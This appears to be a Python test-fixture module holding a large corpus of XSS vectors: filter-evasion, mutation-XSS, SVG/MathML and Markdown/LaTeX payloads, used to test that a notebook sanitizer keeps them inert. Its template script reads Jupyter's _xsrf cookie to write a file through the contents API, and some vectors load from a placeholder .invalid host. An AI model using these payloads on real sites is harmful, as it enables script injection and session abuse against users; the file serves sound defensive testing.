"""A corpus of well-known XSS vectors, for the inert tests (tests/test_inert_corpus.py).

Written for this workbook after the families that public filter-evasion lists describe: the OWASP
filter-evasion cheat sheet's forms (case, quotes and encodings of ``javascript:``, whitespace and
control characters inside it, malformed and half-open tags, event handlers, ``<style>``, ``<meta>``,
``<base>``, ``<link>``, frames, objects, conditional comments, XML islands); mutation XSS (markup whose
second parse differs from the first: ``<noscript>``, ``<style>`` inside SVG or MathML, ``<mglyph>``,
``<form>`` nesting, comments, CDATA); SVG and MathML namespace confusion (``annotation-xml``,
``foreignObject``, ``xlink:href``, SMIL animation of ``href``); remote loads (scripts, style sheets,
images, ``srcset``, ``ping``); and the allowlist's own edges (allowed tags and attributes carrying a
handler or a bad value: ``details ontoggle``, ``th style``, ``a id``, ``img src=data:``).
``MARKDOWN_VECTORS`` are the same ideas in Markdown and LaTeX (links, images, reference links,
autolinks, ``\\href``, ``\\text``).

Each vector is a template: ``{js}`` is replaced by :func:`script` of the vector's number, which,
if it ever ran, would log ``nncxss-<n>`` on the console, write ``nncxss_<n>.txt`` into the course
through Jupyter's contents API with the page's ``_xsrf`` cookie, and open an ``alert(<n>)`` dialog;
``{url}`` by an address of the reserved ``.invalid`` domain (any request to it is a remote load).
The script has no quote, space, ``<``, ``>`` or ``&``, so it fits every context of a vector: quoted and
unquoted attributes, URLs, CSS, text. The other placeholders are encodings of ``javascript:`` plus
the script (:func:`placeholders`).
"""

from __future__ import annotations

import base64

MARKER = "nncxss"


def script(n: int) -> str:
    """JavaScript that leaves three traces if it runs (console, a file written, a dialog)."""
    path = "[,/api/.source,/contents/.source,/%s_%d.txt/.source].join(String.fromCharCode(47))" % (MARKER, n)
    xsrf = "(document.cookie.split(/_xsrf=/)[1]||/-/.source).split(/;/)[0]"
    body = "JSON.stringify({type:/file/.source,format:/text/.source,content:/pwned/.source})"
    return ("console.log(/%s-%d/.source);fetch(%s,{method:/PUT/.source,headers:{[/X-XSRFToken/.source]:%s},"
            "body:%s});alert(%d)" % (MARKER, n, path, xsrf, body, n))


def remote(n: int) -> str:
    return "http://%s-%d.invalid/x" % (MARKER, n)


def placeholders(n: int) -> dict[str, str]:
    js = script(n)
    url = "javascript:" + js
    return {
        "{js}": js,
        "{url}": remote(n),
        "{jsurl_dec}": "".join("&#%d;" % ord(c) for c in url),                 # &#106;&#97;...
        "{jsurl_dec_pad}": "".join("&#%07d" % ord(c) for c in url),            # &#0000106&#0000097 (no ;)
        "{jsurl_hex}": "".join("&#x%X" % ord(c) for c in url),                 # &#x6A&#x61 (no ;)
        "{js_charcode}": "eval(String.fromCharCode(%s))" % ",".join(str(ord(c)) for c in js),
        "{jsurl_css}": "".join("\\%04x" % ord(c) for c in url),                # \006a\0061... in CSS
        "{html_b64}": base64.b64encode(("<script>%s</script>" % js).encode()).decode(),
        "{svg_b64}": base64.b64encode(('<svg xmlns="http://www.w3.org/2000/svg" onload="%s"/>' % js)
                                      .encode()).decode(),
    }


def fill(template: str, n: int) -> str:
    for key, value in placeholders(n).items():
        template = template.replace(key, value)
    return template


# ---------------------------------------------------------------- HTML (raw, as a student might type it)
HTML_VECTORS = [
    # --- scripts, plain and malformed
    "<script>{js}</script>",
    "<SCRIPT SRC={url}.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"{url}.js\"></SCRIPT>",
    "<SCRIPT/SRC=\"{url}.js\"></SCRIPT>",
    "<<SCRIPT>{js}//<</SCRIPT>",
    "<SCRIPT SRC={url}.js?< B >",
    "<SCRIPT SRC=//nncxss.invalid/.j>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\x00>{js}</script>",
    "<scr\x00ipt>{js}</scr\x00ipt>",
    "<\u017fcript>{js}</\u017fcript>",
    "<script src=\"data:text/javascript,{js}\"></script>",
    "<SCRIPT a=\">\" SRC=\"{url}.js\"></SCRIPT>",
    "<SCRIPT =\">\" SRC=\"{url}.js\"></SCRIPT>",
    "<SCRIPT a=\">\" '' SRC=\"{url}.js\"></SCRIPT>",
    "<SCRIPT \"a='>'\" SRC=\"{url}.js\"></SCRIPT>",
    "<SCRIPT a=`>` SRC=\"{url}.js\"></SCRIPT>",
    "<SCRIPT>document.write(String.fromCharCode(60))</SCRIPT>SCRIPT SRC=\"{url}.js\"></SCRIPT>",
    "</TITLE><SCRIPT>{js}</SCRIPT>",
    "<IMG \"\"\"><SCRIPT>{js}</SCRIPT>\">",
    "<!--[if gte IE 4]><SCRIPT>{js}</SCRIPT><![endif]-->",
    "<!--#exec cmd=\"/bin/echo '<SCR'\"--><!--#exec cmd=\"/bin/echo 'IPT SRC={url}.js></SCRIPT>'\"-->",
    "<? echo('<SCR)'; echo('IPT>{js}</SCRIPT>'); ?>",
    # --- javascript: URLs in every spelling
    "<IMG SRC=\"javascript:{js}\">",
    "<IMG SRC=javascript:{js}>",
    "<IMG SRC=JaVaScRiPt:{js}>",
    "<IMG SRC=`javascript:{js}`>",
    "<IMG SRC=javascript:{js_charcode}>",
    "<IMG SRC={jsurl_dec}>",
    "<IMG SRC={jsurl_dec_pad}>",
    "<IMG SRC={jsurl_hex}>",
    "<IMG SRC=\"jav\tascript:{js}\">",
    "<IMG SRC=\"jav&#x09;ascript:{js}\">",
    "<IMG SRC=\"jav&#x0A;ascript:{js}\">",
    "<IMG SRC=\"jav&#x0D;ascript:{js}\">",
    "<IMG SRC=java\x00script:{js}>",
    "<IMG SRC=\" &#14;  javascript:{js}\">",
    "<IMG SRC=\"javascript:{js}\"",
    "<a href=\"javascript:{js}\">click</a>",
    "<a href=\"JAVASCRIPT:{js}\">click</a>",
    "<a href=\"  javascript:{js}\">click</a>",
    "<a href=\"\x01javascript:{js}\">click</a>",
    "<a href=\"javascript&colon;{js}\">click</a>",
    "<a href=\"java&Tab;script:{js}\">click</a>",
    "<a href=\"java&NewLine;script:{js}\">click</a>",
    "<a href=javascript&#58;{js}>click</a>",
    "<a href=\"javas&#99;ript:{js}\">click</a>",
    "<a href=\"{jsurl_dec}\">click</a>",
    "<a href=\"vbscript:msgbox(1)\">click</a>",
    "<a href=\"livescript:{js}\">click</a>",
    "<a href=\"data:text/html;base64,{html_b64}\">click</a>",
    "<a href=\"data:text/html,<script>{js}</script>\">click</a>",
    "<a href=\"https://ok.example/\"onmouseover=\"{js}\">click</a>",
    "<a href=\"#nb-x\" ping=\"{url}\">click</a>",
    "<a href=\"javascript:{js}\" target=\"_blank\" rel=\"opener\">click</a>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:{js};\">",
    "<BODY BACKGROUND=\"javascript:{js}\">",
    "<IMG DYNSRC=\"javascript:{js}\">",
    "<IMG LOWSRC=\"javascript:{js}\">",
    "<BGSOUND SRC=\"javascript:{js};\">",
    "<TABLE BACKGROUND=\"javascript:{js}\">",
    "<TABLE><TD BACKGROUND=\"javascript:{js}\">",
    "<IMG SRC='vbscript:msgbox(1)'>",
    "<BR SIZE=\"&{{js}}\">",
    # --- event handlers
    "<img src=x onerror=\"{js}\">",
    "<img src=x onerror={js}>",
    "<IMG SRC=# onmouseover=\"{js}\">",
    "<IMG SRC= onmouseover=\"{js}\">",
    "<IMG onmouseover=\"{js}\">",
    "<IMG SRC=/ onerror=\"{js}\"></img>",
    "<img/src/onerror={js}>",
    "<img src=x onerror=\"{jsurl_dec}\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<image src=x onerror={js}>",
    "<a onmouseover=\"{js}\">xxs link</a>",
    "<svg/onload={js}>",
    "<svg onload=\"{js}\"><circle r=\"2\"/></svg>",
    "<BODY ONLOAD={js}>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={js}>",
    "<body onpageshow={js}>",
    "<frameset onload={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<keygen autofocus onfocus={js}>",
    "<x contenteditable autofocus onfocus={js}>x</x>",
    "<details open ontoggle={js}><summary>s</summary>d</details>",
    "<video><source onerror=\"{js}\"></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<marquee onstart={js}>m</marquee>",
    "<style>@keyframes nncx{}</style><div style=\"animation-name:nncx\" onanimationstart={js}></div>",
    "<p class=\"x\" onclick={js} onmouseenter={js}>p</p>",
    "<span class=\"x\" onpointerover={js}>span</span>",
    "<img src=x id=nb-x onerror={js}>",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\" onerror={js}>",
    "<img src=\"data:image/png;base64,AAAA&quot; onerror=&quot;{js}\">",
    "<isindex type=image src=1 onerror={js}>",
    # --- style sheets and style attributes
    "<STYLE>li {list-style-image: url(\"javascript:{js}\");}</STYLE><UL><LI>XSS</br>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:{js};\">",
    "<LINK REL=\"stylesheet\" HREF=\"{url}.css\">",
    "<STYLE>@import'{url}.css';</STYLE>",
    "<META HTTP-EQUIV=\"Link\" Content=\"<{url}.css>; REL=stylesheet\">",
    "<STYLE>BODY{-moz-binding:url(\"{url}.xml#xss\")}</STYLE>",
    "<STYLE>@im\\port'\\ja\\vasc\\ript:{js}';</STYLE>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession({js})\">",
    "<STYLE TYPE=\"text/javascript\">{js};</STYLE>",
    "<STYLE>.XSS{background-image:url(\"javascript:{js}\");}</STYLE><A CLASS=XSS></A>",
    "<STYLE type=\"text/css\">BODY{background:url(\"javascript:{js}\")}</STYLE>",
    "<XSS STYLE=\"xss:expression({js})\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<DIV STYLE=\"background-image: url(javascript:{js})\">",
    "<DIV STYLE=\"background-image:{jsurl_css}\">",
    "<DIV STYLE=\"width: expression({js});\">",
    "<div style=\"background:url({url}.png)\">bg</div>",
    "<style>*{background:url({url}.png)}</style>",
    "<th style=\"text-align:right;background:url({url}.png)\">th</th>",
    "<table><tr><td style=\"text-align:left\" onclick={js}>td</td></tr></table>",
    "<table><tr><th style=\"text-align:center;background:url(javascript:{js})\">th</th></tr></table>",
    # --- documents, frames, objects, meta, base
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:{js};\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,{html_b64}\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0; URL=http://;URL=javascript:{js};\">",
    "<META HTTP-EQUIV=\"Set-Cookie\" Content=\"USERID=<SCRIPT>{js}</SCRIPT>\">",
    "<meta http-equiv=\"content-security-policy\" content=\"script-src *\">",
    "<BASE HREF=\"javascript:{js};//\">",
    "<base href=\"{url}/\">",
    "<IFRAME SRC=\"javascript:{js};\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"{js}\"></IFRAME>",
    "<iframe srcdoc=\"<script>{js}</script>\"></iframe>",
    "<iframe src=\"data:text/html;base64,{html_b64}\"></iframe>",
    "<iframe src=\"{url}.html\" <",
    "<FRAMESET><FRAME SRC=\"javascript:{js};\"></FRAMESET>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"{url}.html\"></OBJECT>",
    "<object data=\"javascript:{js}\"></object>",
    "<object data=\"data:text/html;base64,{html_b64}\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,{svg_b64}\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<embed src=\"javascript:{js}\">",
    "<applet code=\"{url}.class\"></applet>",
    "<portal src=\"{url}.html\"></portal>",
    "<XML ID=\"xss\"><I><B><IMG SRC=\"javas<!-- -->cript:{js}\"></B></I></XML>",
    "<HTML><BODY><?xml:namespace prefix=\"t\" ns=\"urn:schemas-microsoft-com:time\"><?import namespace=\"t\" "
    "implementation=\"#default#time2\"><t:set attributeName=\"innerHTML\" to=\"XSS<SCRIPT DEFER>{js}</SCRIPT>\">"
    "</BODY></HTML>",
    "<form action=\"javascript:{js}\"><input type=submit></form>",
    "<form><button formaction=\"javascript:{js}\">x</button></form>",
    "<form id=\"nb-x\"><input name=\"attributes\"><input name=\"cookie\"></form>",
    # --- remote loads that are not scripts
    "<img src=\"{url}.png\">",
    "<img src=\"//nncxss.invalid/x.png\">",
    "<img srcset=\"{url}.png 1x\">",
    "<video poster=\"{url}.png\"></video>",
    "<input type=\"image\" src=\"{url}.png\">",
    "<link rel=\"prefetch\" href=\"{url}\">",
    "<link rel=\"import\" href=\"{url}.html\">",
    "<svg><image href=\"{url}.png\"/></svg>",
    # --- SVG
    "<svg><script>{js}</script></svg>",
    "<svg><script href=\"{url}.js\"/></svg>",
    "<svg><script xlink:href=\"data:text/javascript,{js}\"></script></svg>",
    "<svg><a xlink:href=\"javascript:{js}\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<svg><a><animate attributeName=\"href\" values=\"javascript:{js}\"/><text x=\"20\" y=\"20\">click</text></a></svg>",
    "<svg><set attributeName=\"onmouseover\" to=\"{js}\"/></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>{js}</script>\"></iframe></foreignObject></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<svg><title><img src=x onerror={js}></title></svg>",
    "<svg><use href=\"data:image/svg+xml;base64,{svg_b64}#x\"/></svg>",
    "<svg><style><img src=x onerror={js}></style></svg>",
    "<svg><![CDATA[><img src=x onerror={js}>]]></svg>",
    "<img src=\"data:image/svg+xml;base64,{svg_b64}\">",
    # --- MathML
    "<math href=\"javascript:{js}\">click</math>",
    "<math><mrow href=\"javascript:{js}\">click</mrow></math>",
    "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:{js}\">x<mtext>y</mtext></maction></math>",
    "<math><mi xlink:href=\"javascript:{js}\">x</mi></math>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<math><mi><img src=x onerror={js}></mi></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror={js}></annotation-xml></math>",
    "<math><annotation-xml encoding=\"application/xhtml+xml\"><style><img src=x onerror={js}></style>"
    "</annotation-xml></math>",
    "<math><semantics><annotation-xml encoding=\"text/html\"><svg onload={js}></svg></annotation-xml></semantics></math>",
    "<math><style><img src=x onerror={js}></style></math>",
    "<math xmlns=\"http://www.w3.org/1999/xhtml\"><img src=x onerror={js}></math>",
    "<math><mstyle mathvariant=\"x\" onmouseover={js}>m</mstyle></math>",
    "<math><mo form=\"javascript:{js}\" stretchy=\"url({url})\">x</mo></math>",
    # --- mutation XSS: markup whose second parse differs from the first
    "<noscript><p title=\"</noscript><img src=x onerror={js}>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={js}&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>",
    "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror={js}>\">"
    "</style></h1>",
    "<svg><p><style><g title=\"</style><img src=x onerror={js}>\">",
    "<math><mtext><table><mglyph><svg><mtext><style><path id=\"</style><img onerror={js} src>\">",
    "<table><math><mi><style><img src=x onerror={js}></style></mi></math></table>",
    "<select><style><img src=x onerror={js}></style></select>",
    "<select><img src=x onerror={js}></select>",
    "<select><iframe srcdoc=\"<script>{js}</script>\"></iframe></select>",
    "<listing>&lt;img src=1 onerror={js}&gt;</listing>",
    "<xmp><img src=x onerror={js}></xmp>",
    "<xmp></xmp><img src=x onerror={js}>",
    "<textarea><img src=x onerror={js}></textarea>",
    "<textarea></textarea><img src=x onerror={js}>",
    "<iframe><img src=x onerror={js}></iframe>",
    "<noembed><img src=x onerror={js}></noembed>",
    "<noframes><img title=\"</noframes><img src=x onerror={js}>\"></noframes>",
    "<title><img src=x onerror={js}></title>",
    "<style><img src=x onerror={js}></style>",
    "<template><img src=x onerror={js}></template>",
    "<plaintext><img src=x onerror={js}>",
    "<!--><img src=x onerror={js}>-->",
    "<!---><img src=x onerror={js}>-->",
    "<!-- --!><img src=x onerror={js}> -->",
    "<? ><img src=x onerror={js}>",
    "<!a><img src=x onerror={js}>",
    "</x ><img src=x onerror={js}>",
    "<![CDATA[><img src=x onerror={js}>]]>",
    "<a title=\"&quot;><img src=x onerror={js}>\">t</a>",
    "<img alt=\"`\"><img src=x onerror={js}>`\">",
    "<div title=\"&lt;/div&gt;&lt;img src=x onerror={js}&gt;\">d</div>",
    "<img src=x one\x00rror={js}>",
    "<img src=x \x00onerror={js}>",
    "<img src=x onerror\x0b={js}>",
    "<img src=x onerror=&#x61;lert(1)>",
    # --- the allowlist's own edges: allowed tags and attributes with a bad value
    "<a id=\"nb-x\" href=\"javascript:{js}\">a</a>",
    "<a id=\"setup\" name=\"cookie\">a</a>",
    "<a href=\"#nb-x\" title=\"&lt;script&gt;{js}&lt;/script&gt;\">a</a>",
    "<img src=\"data:text/html;base64,{html_b64}\">",
    "<img src=\"data:image/png;base64,iVBORw0KGgo=\" width=\"1 onerror={js}\" alt=\"x\">",
    "<ol start=\"1 onmouseover={js}\"><li>x</li></ol>",
    "<code class=\"x\" style=\"background:url({url})\">c</code>",
    "<pre class=\"&quot;onmouseover=&quot;{js}\">p</pre>",
    "<details open><summary onclick={js}>s</summary></details>",
]

# ---------------------------------------------------------------- Markdown and LaTeX in a Markdown cell
MARKDOWN_VECTORS = [
    "[click](javascript:{js})",
    "[click](JAVASCRIPT:{js})",
    "[click](javascript&#58;{js})",
    "[click](<javascript:{js}>)",
    "[click]( javascript:{js} )",
    "[click](data:text/html;base64,{html_b64})",
    "[click](vbscript:msgbox(1))",
    "[click][evil]\n\n[evil]: javascript:{js}",
    "<javascript:{js}>",
    "![picture](javascript:{js})",
    "![picture](data:text/html;base64,{html_b64})",
    "![picture]({url}.png)",
    "![picture](//nncxss.invalid/x.png)",
    "![a\" onerror=\"{js}](figure.png)",
    "[a](https://ok.example/\"onmouseover=\"{js})",
    "[a](#nb-x\"onmouseover=\"{js})",
    "$\\href{javascript:{js}}{click}$",
    "$\\text{<img src=x onerror={js}>}$",
    "$\\text{</math><img src=x onerror={js}>}$",
    "$$\\mathrm{<script>{js}</script>}$$",
    "$\\style{background:url(javascript:{js})}{x}$",
    "$\\class{x\" onmouseover=\"{js}}{x}$",
    "$\\unicode{<svg onload={js}>}$",
    "$\\operatorname{<iframe srcdoc=x>}$",
    "| a | b |\n|---|---|\n| <img src=x onerror={js}> | [c](javascript:{js}) |",
    "```html\n<script>{js}</script>\n```",
    "`<img src=x onerror={js}>`",
    "<a id=\"x\" onclick=\"{js}\"></a>",
    "<a id=\"x\"></a><img src=x onerror={js}>",
]


def html_vectors() -> list[tuple[int, str]]:
    """(number, vector) of every HTML vector, its script filled in (numbers from 1)."""
    return [(n, fill(template, n)) for n, template in enumerate(HTML_VECTORS, start=1)]


def markdown_vectors() -> list[tuple[int, str]]:
    """(number, Markdown) of every Markdown vector (numbered after the HTML ones)."""
    start = len(HTML_VECTORS) + 1
    return [(n, fill(template, n)) for n, template in enumerate(MARKDOWN_VECTORS, start=start)]
